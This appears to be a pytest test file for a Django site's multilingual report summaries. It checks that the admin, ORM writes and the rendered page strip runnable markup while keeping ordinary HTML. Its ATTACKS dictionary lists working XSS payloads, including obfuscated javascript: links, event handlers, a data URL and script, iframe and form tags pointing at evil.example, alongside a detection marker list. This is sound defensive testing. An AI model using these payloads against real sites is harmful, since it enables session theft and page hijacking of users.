"""Summaries never store markup that runs, in any language and whoever writes them
(admin tab, ORM); editors' ordinary markup survives, and the page shows no script."""

import html
import re
from html.parser import HTMLParser

import pytest

from reports import product_page
from reports.models import Report
from tests.factories import make_report
from tests.reports.test_admin import change_url, post_data

pytestmark = pytest.mark.django_db

ReportTranslation = Report._parler_meta.root_model

# Each payload carries the token "xss" where it would run; the token must not survive.
ATTACKS = {
    "script": "<p>Intro</p><script>alert('xss-script')</script>",
    "script upper case": "<SCRIPT SRC=//evil.example/xss.js></SCRIPT><p>Intro</p>",
    "onerror": '<img src="x" onerror="alert(\'xss-onerror\')"><p>Intro</p>',
    "onclick": '<p onclick="alert(\'xss-onclick\')">Intro</p>',
    "onmouseover on a link": '<a href="https://example.com/" onmouseover="xss()">Intro</a>',
    "javascript link": "<a href=\"javascript:alert('xss-js')\">Intro</a>",
    "javascript upper case": "<a href=\"JaVaScRiPt:alert('xss-js-case')\">Intro</a>",
    "javascript with tab entity": "<a href=\"jav&#x09;ascript:alert('xss-tab')\">Intro</a>",
    "javascript with newline entity": "<a href=\"jav&#10;ascript:alert('xss-nl')\">Intro</a>",
    "javascript entity-encoded": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;'
        "alert('xss-entities')\">Intro</a>"
    ),
    "javascript after spaces": "<a href=\"   javascript:alert('xss-space')\">Intro</a>",
    "data url": (
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzJyk8L3NjcmlwdD4=">Intro</a>'
    ),
    "vbscript": '<a href="vbscript:msgbox(\'xss-vb\')">Intro</a>',
    "iframe": '<iframe src="https://evil.example/xss"></iframe><p>Intro</p>',
    "svg script": "<svg><script>alert('xss-svg')</script></svg><p>Intro</p>",
    "style": "<style>body{background:url('xss')}</style><p style=\"color:red\">Intro</p>",
    "form": '<form action="https://evil.example/xss"><input name="xss"></form><p>Intro</p>',
}
ALLOWED = (
    "<p>The <strong>market</strong> grew <em>steadily</em>.</p>"
    "<ul><li>North America</li><li>Europe</li></ul>"
    "<ol><li>First</li></ol>"
    '<table><thead><tr><th scope="col">Year</th></tr></thead>'
    '<tbody><tr><td colspan="2">2025</td></tr></tbody></table>'
    '<p><a href="https://example.com/report" title="Source">source</a> '
    '<a href="mailto:sales@example.com">mail</a></p>'
)
KEPT = [
    "<strong>market</strong>",
    "<em>steadily</em>",
    "<ul><li>North America</li><li>Europe</li></ul>",
    "<ol><li>First</li></ol>",
    '<th scope="col">Year</th>',
    '<td colspan="2">2025</td>',
    'href="https://example.com/report"',
    'title="Source"',
    'href="mailto:sales@example.com"',
]


def assert_harmless(text: str) -> None:
    """Nothing that runs, however it is spelled: entities decoded, whitespace dropped."""
    folded = re.sub(r"[\s\x00-\x1f]+", "", html.unescape(text)).lower()
    for marker in (
        "<script", "xss", "onerror", "onclick", "onmouseover", "javascript:", "vbscript:",
        "data:", "<iframe", "<style", "style=", "<form", "<input", "<svg", "<img",
    ):  # fmt: skip
        assert marker not in folded, (marker, text)


def stored_summary(report, language):
    return ReportTranslation.objects.get(master=report, language_code=language).summary


def save_summary_in_the_admin(client, report, language, summary):
    url = change_url(report) + f"?language={language}"
    data = post_data(client.get(url))
    data["summary"] = summary
    response = client.post(url, data)
    assert response.status_code == 302, response.context and response.context["errors"]


# --- Through the admin, in both language tabs -------------------------------------------


@pytest.mark.parametrize("language", ["en", "zh-hans"])
@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_the_admin_stores_no_markup_that_runs(admin_client, language, attack):
    report = make_report()

    save_summary_in_the_admin(admin_client, report, language, attack)

    summary = stored_summary(report, language)
    assert_harmless(summary)
    assert "Intro" in summary  # the text itself stays


@pytest.mark.parametrize("language", ["en", "zh-hans"])
def test_the_admin_keeps_ordinary_markup(admin_client, language):
    report = make_report()

    save_summary_in_the_admin(admin_client, report, language, ALLOWED)

    summary = stored_summary(report, language)
    for fragment in KEPT:
        assert fragment in summary
    assert 'rel="noopener nofollow"' in summary  # links out carry no referrer trust


# --- Through the ORM (a feed import, the shell) -----------------------------------------------


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_the_orm_stores_no_markup_that_runs_in_any_language(attack):
    report = make_report(summary_en=attack, summary_zh=attack)

    assert_harmless(stored_summary(report, "en"))
    assert_harmless(stored_summary(report, "zh-hans"))


def test_an_orm_edit_of_one_translation_is_cleaned_too():
    report = Report.objects.get(pk=make_report().pk)
    report.set_current_language("zh-hans")
    report.summary = ALLOWED + ATTACKS["javascript with tab entity"] + ATTACKS["onerror"]
    report.save()

    summary = stored_summary(report, "zh-hans")
    assert_harmless(summary)
    for fragment in KEPT:
        assert fragment in summary


# --- The page ---------------------------------------------------------------------------------


class RunnableParts(HTMLParser):
    """What a browser would run in a page: script elements with their source or text,
    event handler attributes, and links or sources with a script or data scheme."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            folded = re.sub(r"[\s\x00-\x1f]+", "", value or "").lower()
            if name.startswith("on"):
                self.found.append(f"{tag} {name}={value}")
            elif name in ("href", "src", "action", "formaction") and folded.startswith(
                ("javascript:", "vbscript:", "data:")
            ):
                self.found.append(f"{tag} {name}={value}")
        if tag == "script" and dict(attrs).get("type") == "application/ld+json":
            return  # structured data: read by search engines, never run
        if tag in ("script", "iframe", "object", "embed"):
            self._in_script = tag == "script"
            self.found.append(f"<{tag} {dict(attrs)}>")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.found.append(data)


def runnable_parts(page: str) -> list[str]:
    """The runnable parts that come from a summary (they carry the payloads' token)."""
    parser = RunnableParts()
    parser.feed(page)
    return [part for part in parser.found if "xss" in part.lower() or "javascript:" in part]

EVERY_ATTACK = "".join(ATTACKS.values())


@pytest.mark.parametrize("language", ["en", "zh-hans"])
def test_the_detail_page_shows_the_summary_without_anything_that_runs(client, language):
    report = make_report(summary_en=ALLOWED + EVERY_ATTACK, summary_zh=ALLOWED + EVERY_ATTACK)

    page = client.get(f"/{language}/reports/{report.product_code}/{report.slug}/")

    assert page.status_code == 200
    text = page.content.decode()
    assert "<strong>market</strong>" in text
    assert runnable_parts(text) == []
    assert "xss" not in text.lower()  # cleaned on save: not even as text


def test_a_summary_written_around_the_orm_is_cleaned_when_shown(client):
    report = make_report()
    # A raw update skips the save hooks: the page must still not run it. (A bulk writer
    # marks the prepared product page stale, so the next request builds it afresh.)
    ReportTranslation.objects.filter(master=report).update(summary=ALLOWED + EVERY_ATTACK)
    product_page.pages_changed(Report.objects.filter(pk=report.pk))

    text = client.get(f"/en/reports/{report.product_code}/{report.slug}/").content.decode()

    assert "<strong>market</strong>" in text
    assert runnable_parts(text) == []
    assert "<script>alert" not in text
